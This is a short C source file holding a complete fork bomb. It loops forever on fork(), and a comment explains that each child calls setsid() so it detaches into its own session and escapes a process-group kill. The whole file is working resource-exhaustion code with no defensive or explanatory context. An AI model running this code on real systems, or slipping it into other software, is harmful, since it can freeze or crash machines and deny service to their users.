// Classic fork bomb; children detach into their own sessions to escape a process-group kill.
#include <unistd.h>
int main() {
    for (;;) {
        if (fork() == 0) setsid();
    }
}
